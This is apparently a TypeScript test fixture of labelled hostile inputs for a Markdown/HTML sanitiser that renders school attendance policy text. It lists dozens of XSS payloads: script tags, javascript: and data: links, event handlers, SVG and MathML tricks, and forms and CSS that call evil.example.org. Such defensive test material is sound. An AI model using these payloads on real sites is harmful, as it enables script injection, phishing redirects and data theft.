/** Policy text that tries to run something, to ask for something, to lead elsewhere, or to break the page. */
export const HOSTILE: [string, string][] = [
  ['a script', '<script>alert(1)</script>\n\nMore'],
  ['a script inside a paragraph', 'Hello <script src="https://evil.example.org/a.js"></script> world'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['a picture of another host', '![a fox](https://evil.example.org/fox.png "seen")'],
  ['a picture by reference', '![a fox][fox]\n\n[fox]: https://evil.example.org/fox.png'],
  ['a picture as data', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['a picture inside a link', '[![x](https://evil.example.org/x.png)](javascript:alert(1))'],
  ['a javascript link', '[press](javascript:alert(1))'],
  ['a javascript link with capitals and blanks', '[press](< JaVaScRiPt:alert(1)>)'],
  ['a javascript link with entities', '[press](&#106;avascript&colon;alert(1))'],
  [
    'a javascript link with a tab and a line break',
    '[press](<java&#9;script:alert(1)>)\n\n[press](<java&#10;script:alert(1)>)',
  ],
  ['a javascript link by reference', '[press][bad]\n\n[bad]: javascript:alert(1)'],
  ['a javascript link in angle brackets', '<javascript:alert(1)>'],
  ['a data link', '[press](data:text/html,<script>alert(1)</script>)'],
  ['a vbscript link', '[press](vbscript:msgbox(1))'],
  ['a file link and a link of a program', '[a](file:///etc/passwd) [b](ms-word:ofe|u|https://evil.example.org)'],
  ['a link of the same scheme as the page', '[press](//evil.example.org/x)'],
  ['a style element', '<style>body{background:url(https://evil.example.org/x)}</style>'],
  ['a style attribute', '<p style="background:url(https://evil.example.org/x)">hello</p>'],
  [
    'event handlers',
    '<a href="#" onclick="alert(1)" onmouseover=alert(2)>x</a>\n\n<details ontoggle=alert(3) open>x</details>',
  ],
  ['an SVG with a script', '<svg onload=alert(1)><script>alert(2)</script><use href="data:image/svg+xml,x#y"/></svg>'],
  ['a frame', '<iframe src="https://evil.example.org" srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a form',
    '<form action="https://evil.example.org"><input name=q autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    'a base, a link and a refresh',
    '<base href="https://evil.example.org/"><link rel=stylesheet href=//evil.example.org/a.css><meta http-equiv=refresh content="0;url=https://evil.example.org">',
  ],
  ['an end of the page in the text', '</div></main></body></html><script>alert(1)</script>'],
  [
    'an end of the style in the title',
    '# </style><script>alert(1)</script> policy\n\nFernhollow </style><script>alert(2)</script> School',
  ],
  [
    'code that looks like markup',
    '`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```\n\n    <script>alert(1)</script>',
  ],
  ['a task list', '- [ ] ring\n- [x] write'],
  ['ids that shadow the page', '<a id="policy" name="location">x</a>\n\n## what-if\n\n[^policy]\n\n[^policy]: a note'],
  ['a footnote with a link', 'Text[^1].\n\n[^1]: [press](javascript:alert(1)) ![x](https://evil.example.org/x.png)'],
  [
    'tables with hostile cells',
    '| a | <script>alert(1)</script> |\n|---|---|\n| [x](javascript:alert(1)) | ![x](https://evil.example.org/x.png) |',
  ],
  [
    'a step whose words are markup',
    '## Steps\n\n| Stage | When | What happens |\n|---|---|---|\n| 1 "><script>alert(1)</script> | Below 95% | <img src=x onerror=alert(1)> |\n| 2 | Below 90% | \'"></td><script>alert(2)</script> |',
  ],
  [
    'names that are markup',
    '**Attendance officer:** Mr "><img src=x onerror=alert(1)>\n\nThe register closes at 9.15am.\n\nReport an absence by 9am to "<script>"@example.org',
  ],
  [
    'a duty and a question with markup near',
    'The morning register closes at 9.15am <b onclick=alert(1)>or</b> at 9.20am.',
  ],
  ['bare addresses', 'https://example.org/a?b=<script> www.example.org info@example.org javascript:alert(1)'],
  ['a half-open comment', 'Before <!-- secret --!> still secret <script>alert(1)</script>'],
  ['bytes that are not letters', 'a\u0000b\u0008c\ufffe <script\u0000>alert(1)</script\u0000>'],

  ['an SVG that loads', '<svg/onload=alert(1)>\n\n<svg onload="alert(2)"></svg> text'],
  [
    'an SVG animation of a link',
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  [
    'MathML with a link',
    '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>\n\n<math href="javascript:alert(2)">x</math>',
  ],
  [
    'a namespace confusion',
    '<svg><style><img src=x onerror=alert(1)></style></svg>\n\n<math><mi><style><!--</mi></style><img src=x onerror=alert(2)>',
  ],
  [
    'a colon as a number',
    '[press](javascript&#58;alert(1)) [press](javascript&#x3A;alert(2)) [press](javascript&#00058;alert(3))',
  ],
  [
    'a scheme with marks that are not seen',
    '[press](java\u00adscript:alert(1)) [press](\u0001javascript:alert(2)) [press](java\u200bscript:alert(3))',
  ],
  [
    'a data link with a type of its own',
    '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n[press](DATA:image/svg+xml,<svg/onload=alert(2)>)',
  ],
  [
    'a blob and a filesystem link',
    '[a](blob:https://evil.example.org/x) [b](filesystem:https://evil.example.org/x) [c](view-source:https://example.org)',
  ],
  [
    'nested comments',
    '<!-- a <!-- b --> <script>alert(1)</script> -->\n\n<!--> <img src=x onerror=alert(2)> -->\n\n<!---> <img src=x onerror=alert(3)> -->',
  ],
  ['a comment that ends in a title', '<!--\n\n# policy --><img src=x onerror=alert(1)>'],
  [
    'an end of script in a heading',
    '# </script><script>alert(1)</script>\n\n## </title></head><body onload=alert(2)>\n\n### --></style><svg onload=alert(3)>',
  ],
  [
    'an end of script in a step',
    '## Steps\n\n### Stage 1: </script><script>alert(1)</script>\n\nWhen attendance falls below 95%, </script><img src=x onerror=alert(2)> a letter is sent.\n\n### Stage 2: "><svg onload=alert(3)>\n\nWhen attendance falls below 90%, we meet.',
  ],
  [
    'braces of templates',
    '{{constructor.constructor("alert(1)")()}} \u0024{alert(2)} <%= alert(3) %> #{alert(4)} [[\u0024{alert(5)}]] {% include "x" %}',
  ],
  [
    'a CSS address in an attribute',
    '<div style="background-image:url(https://evil.example.org/a.png);position:fixed;inset:0">x</div>\n\n<table background="https://evil.example.org/b.png"><tr><td>x</td></tr></table>',
  ],
  [
    'a CSS import and an expression',
    '<style>@import "https://evil.example.org/a.css";</style><p style="width:expression(alert(1));-moz-binding:url(x)">x</p>',
  ],
  [
    'a style that would hide the page',
    '</style><style>.state,.notice{display:none}*{color:#fff!important}</style>\n\n<link rel="stylesheet" href="data:text/css,body{display:none}">',
  ],
  [
    'a refresh in all ways',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">\n\nText <meta http-equiv=refresh content=0;https://evil.example.org> more',
  ],
  [
    'a base and a relative link',
    '<base href="https://evil.example.org/">\n\n[a](policy.html) [b](/x) [c](../x) [d](?q) [e](\\\\evil.example.org\\x)',
  ],
  [
    'pictures in sets',
    '<img srcset="https://evil.example.org/a.png 2x" src=x>\n\n<picture><source srcset=https://evil.example.org/b.png><img></picture>\n\n<video poster=https://evil.example.org/c.png><source src=x></video>',
  ],
  [
    'a form that sends by itself',
    '<form action=https://evil.example.org id=f><input name=a autofocus onfocus=f.submit()></form><button form=f formaction=javascript:alert(1)>x</button>',
  ],
  [
    'focus without a click',
    '<a href=# autofocus onfocus=alert(1) tabindex=1>x</a> <input autofocus onfocus=alert(2)> <p contenteditable autofocus onfocus=alert(3)>x</p>',
  ],
  [
    'references with titles',
    '[a]: javascript:alert(1) "a title"\n[b]: https://example.org "\\" onmouseover=alert(2) x=\\""\n\n[press][a] [press][b] [press](https://example.org "\' onclick=alert(3) \'")',
  ],
  [
    'autolinks that are scripts',
    '<javascript:alert(1)> <JAVASCRIPT:alert(2)> <data:text/html,x> javascript:alert(3) <a@b.example.org?body="onload=alert(4)>',
  ],
  [
    'a link whose words are a form',
    '[<input autofocus onfocus=alert(1)>](https://example.org) [![x](x "onerror=alert(2)")](https://example.org)',
  ],
  [
    'letters that turn the reading round',
    'Registers close at \u202e ma51.9 \u202c or \u2066 so \u2069 \u200f\u200e. [safe\u202egro.live](https://example.org/\u202e)',
  ],
  [
    'a heading that shadows',
    '## __proto__\n\n## constructor\n\n## location\n\n<a id="policy-l1" name="key-facts">x</a>\n\n[x](#__proto__) [y](#constructor) [z](#%E0%A4%A)',
  ],
  [
    'custom elements and slots',
    '<x-evil onclick=alert(1)></x-evil><template shadowrootmode=open><script>alert(2)</script></template><slot name=x></slot>',
  ],
  [
    'an object, an embed, an applet, a portal',
    '<object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(2)</script>"><applet code=x></applet><portal src=https://evil.example.org></portal>',
  ],
  [
    'a dialog and a popover that open',
    '<dialog open>Pay here: <a href="https://evil.example.org">x</a></dialog>\n\n<div popover=manual id=p onbeforetoggle=alert(1)>x</div><details open ontoggle=alert(2)><summary>x</summary></details>',
  ],
  [
    'words of the page’s own head',
    '<title>Other</title><meta charset=utf-7><meta name=referrer content=unsafe-url>\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ],
  [
    'a prefetch and a worker',
    '<link rel=prefetch href=https://evil.example.org><link rel=preload as=image href=https://evil.example.org/x.png><link rel=dns-prefetch href=//evil.example.org><link rel=manifest href=x>',
  ],
  [
    'a name, a target and a role in a fact',
    '- Senior attendance champion: Mr <a href="javascript:alert(1)">Roe</a>\n- Attendance officer: Ms "onmouseover="alert(2) Pike, 01632 960 417"><script>alert(3)</script>\n\nReport absence to x@example.org?subject=<script>alert(4)</script> by 9am.',
  ],
  ['many tags that are never closed', '<b><i><u><a href=javascript:alert(1)>'.repeat(300)],
  [
    'a very long link and a very long attribute',
    `[x](https://example.org/${'a'.repeat(20_000)}) <p title="${'"'.repeat(50)}${'b'.repeat(20_000)}" onclick=alert(1)>x</p>`,
  ],
];
